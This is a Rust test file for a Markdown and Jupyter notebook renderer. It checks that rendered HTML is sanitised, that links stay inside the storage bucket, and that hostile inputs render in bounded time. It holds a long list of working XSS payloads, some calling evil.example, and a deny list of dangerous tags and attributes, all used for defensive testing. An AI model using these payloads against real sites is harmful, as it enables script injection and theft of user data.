//! Texts as people write them, and as those write them who mean harm.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use super::*;

/// Far more than any of these takes, far less than what makes somebody wait.
const PATIENCE: Duration = Duration::from_secs(20);

fn place(instance: Option<&str>) -> Place {
    Place {
        instance: instance.map(|id| InstanceId::parse(id).unwrap()),
        bucket: BucketName::parse("open-census").unwrap(),
        prefix: Prefix::parse("2024/été/").unwrap(),
        language: Language::FrCa,
    }
}

fn rendered(source: &str) -> String {
    markdown(source, &place(None)).html
}

fn check(source: &str, expected: &str) {
    assert_eq!(rendered(source).trim_end(), expected, "{source}");
}

fn of_notebook(cells: &Value) -> Rendered {
    let document = json!({ "nbformat": 4, "metadata": {}, "cells": cells });
    notebook(document.to_string().as_bytes(), &place(Some("minimal"))).unwrap()
}

/// The tags of safe HTML without its text, and without the values of attributes that are no addresses.
fn skeleton(html: &str) -> String {
    let mut skeleton = String::new();
    for tag in html.split('<').skip(1) {
        skeleton.push('<');
        for (index, part) in tag.split('"').enumerate() {
            let address = skeleton.ends_with("href=\"") || skeleton.ends_with("src=\"");
            if index % 2 == 0 {
                // Outside of quotes the tag may end, and then there is only text.
                let (part, text) =
                    part.split_once('>').map_or((part, false), |(part, _)| (part, true));
                skeleton.push_str(part);
                if text {
                    break;
                }
                skeleton.push('"');
            } else {
                skeleton.push_str(if address { part } else { "" });
                skeleton.push('"');
            }
        }
        skeleton.push('>');
    }
    skeleton
}

/// What could run, load or draw outside of its place, however it is written.
#[track_caller]
fn assert_harmless(html: &str, source: &str) {
    let lower = skeleton(html).to_lowercase();
    let words = [
        "<script",
        "<style",
        "<iframe",
        "<object",
        "<embed",
        "<svg",
        "<math",
        "<form",
        "<base",
        "<meta",
        "<link",
        "<video",
        "<audio",
        "<button",
        "<textarea",
        "<select",
        "<template",
        " onerror",
        " onload",
        " onclick",
        " style=",
        " srcset",
        " srcdoc",
        " formaction",
        " xlink",
        "href=\"javascript",
        "href=\"data",
        "href=\"vbscript",
        "src=\"http",
        "src=\"//",
        "src=\"data:text",
        "src=\"data:image/svg",
        " type=\"password",
    ];
    for word in words {
        assert!(!lower.contains(word), "{source:.200} left {word} in {html:.500}");
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=\"a.png\" style=\"position:fixed;background:url(//evil.example)\">",
    "<img srcset=\"https://evil.example/x 2x\">",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=https://evil.example><input type=password><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=\"https://x.example\" onclick=\"alert(1)\" target=_blank>x</a>",
    "<table background=javascript:alert(1)><td background=//evil.example/x>",
    "<div id=app class=toast aria-hidden=true>x</div>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<video src=https://evil.example/x autoplay></video>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[a]: javascript:alert(1)\n[a]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x\" onerror=\"alert(1)](a.png)",
    "![<img src=x onerror=alert(1)>](a.png)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "# <img src=x onerror=alert(1)>\n",
    "| <script>alert(1)</script> |\n|---|\n| <b onclick=x> |\n",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "> </blockquote></div></main><script>alert(1)</script>",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "---\ntitle: <script>alert(1)</script>\n---\nx",
    "\u{0}<script\u{0}>alert(1)</script>",
    "<a href=\"x\"\"onmouseover=alert(1)\">x</a>",
    "<b title=\"`><script>alert(1)</script>\">x</b>",
    "%PDF-1.7 <html><script>alert(1)</script>\nGIF89a/*<svg onload=alert(1)>*/",
];

#[test]
fn nothing_hostile_gets_through_in_markdown() {
    for source in HOSTILE {
        for instance in [None, Some("minimal")] {
            assert_harmless(&markdown(source, &place(instance)).html, source);
        }
    }
    // Nor when it all comes at once, or inside of something else.
    let all = HOSTILE.join("\n\n");
    assert_harmless(&rendered(&all), &all);
    for source in HOSTILE {
        let nested = format!("- a\n  > {}\n", source.replace('\n', "\n  > "));
        assert_harmless(&rendered(&nested), &nested);
    }
}

#[test]
fn nothing_hostile_gets_through_in_notebooks() {
    for source in HOSTILE {
        let cells = json!([
            { "cell_type": "markdown", "source": [source] },
            { "cell_type": "raw", "source": source },
            { "cell_type": source, "source": source },
            { "cell_type": "code", "source": source, "execution_count": 1, "outputs": [
                { "output_type": "stream", "name": source, "text": [source] },
                { "output_type": "error", "ename": source, "evalue": source, "traceback": [source] },
                { "output_type": "error", "ename": source, "evalue": source, "traceback": [] },
                { "output_type": source },
                { "output_type": "display_data", "data": { "text/html": [source], "text/plain": source } },
                { "output_type": "display_data", "data": { "text/html": source } },
                { "output_type": "display_data", "data": { "image/svg+xml": source } },
                { "output_type": "display_data", "data": { "application/javascript": source } },
                { "output_type": "display_data", "data": { source.to_owned(): { "x": source } } },
                { "output_type": "display_data", "data": { "image/png": source, "text/plain": source } },
            ] },
        ]);
        let document = json!({ "nbformat": 4, "metadata": { "title": source }, "cells": cells });
        let made = notebook(document.to_string().as_bytes(), &place(Some("minimal"))).unwrap();
        assert_harmless(&made.html, source);
    }
}

/// Everything there is in Markdown, again and again: what the parsers do for each must not grow with how often.
fn repeated(n: usize) -> Vec<String> {
    vec![
        "&".repeat(n),
        "a\n".repeat(n),
        format!("```\n{}\n```", "a\n".repeat(n)),
        format!("![{}](a.png)", "&".repeat(n)),
        format!("[x](a \"{}\")", "&\n".repeat(n)),
        format!("<a title=\"{}\">x</a>", "&amp;".repeat(n)),
        "a  \n".repeat(n),
        "<br>".repeat(n),
        "<i>\\".repeat(n),
        "| ".repeat(n),
        "x\n\n".repeat(n),
        "\u{0}".repeat(n),
        "&#0;".repeat(n),
        "<p>\n".repeat(n),
        "<img src=a.png>".repeat(n),
        "<table>".repeat(n),
        "<td>".repeat(n),
        "<tr><td>".repeat(n),
        "<table><tr><td>".repeat(n),
        "</p>".repeat(n),
        "<p>x".repeat(n),
        "<li><p>".repeat(n),
        "<a href=x>".repeat(n),
        "<h1>x".repeat(n),
        "*a* ".repeat(n),
        "*a **".repeat(n),
        "1. a\n".repeat(n),
        "[a](b)".repeat(n),
        "![a](b.png)".repeat(n),
        "~~a~~ ".repeat(n),
        "`a`".repeat(n),
        "[^1]".repeat(n),
        "[^1]: x\n\n".repeat(n),
        "[x]: y\n".repeat(n),
        "|a|b|\n|-|-|\n".repeat(n),
        "<table>x".repeat(n),
        "<b>x</b>".repeat(n),
        "<a b=c d=e f=g>x</a>".repeat(n),
    ]
}

#[test]
fn hostile_sizes_and_depths_take_bounded_time() {
    let table =
        format!("|{}\n|{}\n{}", "a|".repeat(5_000), "-|".repeat(5_000), "|x\n".repeat(5_000));
    let formats: Vec<String> = (0..2_000).map(|n| format!("<b title={n}>")).collect();
    let corpus = [
        ">".repeat(100_000),
        "- ".repeat(50_000),
        "<b>".repeat(100_000),
        "<div>\n\n".repeat(30_000),
        "[".repeat(100_000),
        "*a ".repeat(60_000),
        "![".repeat(50_000),
        "<a".repeat(100_000),
        "<!--".repeat(50_000),
        "`".repeat(100_000),
        format!("{}\n\n{}", formats.concat(), "x\n\n".repeat(50_000)),
        "[^a]".repeat(50_000) + "\n\n[^a]: x",
        "# a\n".repeat(60_000),
        "&".repeat(200_000),
        "&amp;".repeat(50_000),
        "<i>\\".repeat(50_000),
        table,
    ];
    for source in corpus.into_iter().chain(repeated(5_000)) {
        let source = source.as_str();
        let begun = Instant::now();
        let html = rendered(source);
        let took = begun.elapsed();
        assert!(took < PATIENCE, "{source:.40} took {took:?}");
        assert_harmless(&html, source);
    }
    let deep = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
    let deep =
        format!("{{\"nbformat\":4,\"cells\":[{{\"cell_type\":\"code\",\"source\":{deep}}}]}}");
    assert!(matches!(notebook(deep.as_bytes(), &place(None)), Err(Damaged::Json(_))));
}

#[test]
fn relative_links_and_images_stay_in_the_bucket() {
    check(
        "![chart](img/a%20b.png)",
        "<p><img src=\"/public/open-census/2024/%C3%A9t%C3%A9/img/a%20b.png\" alt=\"chart\"></p>",
    );
    let rel = "rel=\"noopener noreferrer nofollow\"";
    check(
        "[up](../)",
        &format!("<p><a href=\"/fr/d/open-census?prefix=2024%2F\" {rel}>up</a></p>"),
    );
    check(
        "[root](/dict.csv)",
        &format!("<p><a href=\"/public/open-census/dict.csv\" {rel}>root</a></p>"),
    );
    check("[out](../../../x)", &format!("<p><a {rel}>out</a></p>"));
    check("[x](javascript:alert(1))", &format!("<p><a {rel}>x</a></p>"));
    let private =
        markdown("<img src=\"/a.png\" width=\"40\">[b](b.csv)", &place(Some("minimal"))).html;
    assert!(
        private.contains("src=\"/api/instances/minimal/buckets/open-census/objects?key=a.png\"")
    );
    assert!(
        private
            .contains("href=\"/fr/b/minimal/open-census?prefix=2024%2F%C3%A9t%C3%A9%2F&amp;key="),
        "{private}"
    );
}

#[test]
fn remote_images_are_links_and_are_not_loaded() {
    let rel = "rel=\"noopener noreferrer nofollow\"";
    check(
        "![chart](https://example.org/a.png)",
        &format!("<p><a href=\"https://example.org/a.png\" {rel}>chart</a></p>"),
    );
    check(
        "![](https://example.org/a.png)",
        &format!(
            "<p><a href=\"https://example.org/a.png\" {rel}>https://example.org/a.png</a></p>"
        ),
    );
    check(
        "[![badge](https://example.org/a.svg)](https://example.org/)",
        &format!("<p><a href=\"https://example.org/\" {rel}>badge</a></p>"),
    );
}

#[test]
fn headings_leave_h1_to_the_page_and_can_be_led_to() {
    check("---\ntitle: x\n---\n# Census", "<h2 id=\"r-census\">Census</h2>");
    check("###### deep", "<h6 id=\"r-deep\">deep</h6>");
    let rel = "rel=\"noopener noreferrer nofollow\"";
    check(
        "[to](#how-to)\n\n## How *to*",
        &format!(
            "<p><a href=\"#r-how-to\" {rel}>to</a></p>\n<h3 id=\"r-how-to\">How <em>to</em></h3>"
        ),
    );
    check("<h1 id=\"app\">x</h1>", "<h2 id=\"r-app\">x</h2>");
}

#[test]
fn a_text_says_its_title() {
    let title = |source: &str| markdown(source, &place(None)).title;
    assert_eq!(title("---\ntitle: \"Census\"\n---\n# Other").as_deref(), Some("Census"));
    assert_eq!(title("words\n\n## The `second` level").as_deref(), Some("The second level"));
    assert_eq!(title("no heading"), None);
}

#[test]
fn tables_task_lists_footnotes_and_folds_are_rendered() {
    assert!(rendered("| a | b |\n|---|---|\n| 1 | 2 |").contains("<table>"));
    assert!(
        rendered("- [x] done")
            .contains("type=\"checkbox\" disabled=\"\" checked=\"\" aria-label=\"Fait\"")
    );
    assert!(rendered("~~gone~~").contains("<del>gone</del>"));
    let footnote = rendered("a[^n]\n\n[^n]: note");
    assert!(footnote.contains("href=\"#r-n\"") && footnote.contains("id=\"r-n\""), "{footnote}");
    check(
        "<details>\n<summary>More</summary>\n\n**bold**\n\n</details>",
        "<details>\n<summary>More</summary>\n<p><strong>bold</strong></p>\n</details>",
    );
}

#[test]
fn what_lies_beyond_the_limit_is_counted() {
    let made = markdown(&"a\n\n".repeat(200_000), &place(None));
    assert!(made.truncated.bytes > 0 && made.html.contains("<p>a</p>"));
}

#[test]
fn a_notebook_shows_text_runs_and_results() {
    let made = of_notebook(&json!([
        { "cell_type": "markdown", "source": ["# Ventes\n", "[b](b.csv) ![p](attachment:p.png)"],
          "attachments": { "p.png": { "image/png": "iVBORw0KGgo=" } } },
        { "cell_type": "code", "source": "print('<b>')", "execution_count": 3, "outputs": [
            { "output_type": "stream", "name": "stdout", "text": ["\u{1b}[31m<b>\u{1b}[0m\n", "10%\r100%\n"] },
            { "output_type": "display_data", "data": {
                "image/png": "iVBO\nRw0KGgo=\n", "text/plain": "<Figure size 640x480>" } },
            { "output_type": "execute_result", "data": {
                "text/html": ["<style scoped>a{}</style><table class=\"dataframe\"><tr><td>1</td></tr></table>"],
                "text/plain": "1" } },
            { "output_type": "display_data", "data": {
                "text/html": "<div><script>plot()</script></div>", "text/plain": "plot" } },
            { "output_type": "display_data", "data": { "application/vnd.jupyter.widget-view+json": { "a": 1 } } },
            { "output_type": "error", "ename": "ValueError", "evalue": "x", "traceback": ["\u{1b}[0;31mValueError\u{1b}[0m: x"] },
        ] },
        { "cell_type": "code", "source": ["y"], "execution_count": null, "outputs": [] },
    ]));
    assert_eq!(made.title.as_deref(), Some("Ventes"));
    assert_eq!(made.truncated, gateway_api::Truncated::default());
    for expected in [
        "<h2 id=\"r-ventes\">Ventes</h2>",
        "src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"p\"",
        "Exécution 3",
        "print('&lt;b&gt;')",
        "&lt;b&gt;\n100%\n",
        "alt=\"&lt;Figure size 640x480&gt;\"",
        "<table><tbody><tr><td>1</td></tr></tbody></table>",
        ">plot</pre>",
        "Résultat non affiché\u{a0}: application/vnd.jupyter.widget-view+json",
        ">ValueError: x</pre>",
        "Non exécuté",
    ] {
        assert!(made.html.contains(expected), "{expected} is not in {}", made.html);
    }
    assert!(!made.html.contains("plot()") && !made.html.contains("a{}"), "{}", made.html);
}

#[test]
fn a_notebook_of_the_older_form_is_shown_too() {
    let document = json!({ "nbformat": 3, "metadata": { "name": "old" }, "worksheets": [{ "cells": [
        { "cell_type": "heading", "level": 2, "source": "Part" },
        { "cell_type": "code", "language": "python", "input": ["1 + 1"], "prompt_number": 7, "outputs": [
            { "output_type": "pyout", "prompt_number": 7, "text": ["2"] },
            { "output_type": "display_data", "png": "iVBORw0KGgo=" },
            { "output_type": "pyerr", "ename": "E", "evalue": "v", "traceback": [] },
        ] },
    ] }] });
    let made = notebook(document.to_string().as_bytes(), &place(None)).unwrap();
    for expected in [
        "<h3 id=\"r-part\">Part</h3>",
        "Exécution 7",
        "1 + 1",
        ">2</pre>",
        "data:image/png",
        "E: v",
    ] {
        assert!(made.html.contains(expected), "{expected} is not in {}", made.html);
    }
}

#[test]
fn what_is_too_much_of_a_notebook_is_counted() {
    let output = json!({ "output_type": "stream", "text": "x" });
    let huge =
        json!({ "output_type": "display_data", "data": { "image/png": "A".repeat(3 << 20) } });
    let mut cells = vec![json!({ "cell_type": "markdown", "source": "x" }); 600];
    cells[0] = json!({ "cell_type": "code", "source": "x", "outputs": vec![output; 60] });
    cells[1] = json!({ "cell_type": "code", "source": "x", "outputs": [huge] });
    let made = of_notebook(&json!(cells));
    assert_eq!(made.truncated.cells, 100);
    assert_eq!(made.truncated.outputs, 11);
}

#[test]
fn what_is_no_notebook_is_damaged() {
    let check = |source: &str| {
        let result = notebook(source.as_bytes(), &place(None));
        assert!(result.is_err(), "{source}");
    };
    for source in [
        "",
        "{",
        "[]",
        "null",
        "{\"cells\":[]}",
        "{\"nbformat\":5}",
        "{\"nbformat\":4,\"cells\":7}",
    ] {
        check(source);
    }
    // What is merely odd is shown as far as it goes.
    for odd in [
        r#"{"nbformat":4}"#,
        r#"{"nbformat":4,"metadata":7,"cells":[{"cell_type":"code","source":9,"outputs":[],"execution_count":"x"}]}"#,
        r#"{"nbformat":4,"cells":[{"cell_type":"markdown","source":[1,"a"],"attachments":[]}]}"#,
    ] {
        assert!(notebook(odd.as_bytes(), &place(None)).is_ok(), "{odd}");
    }
}
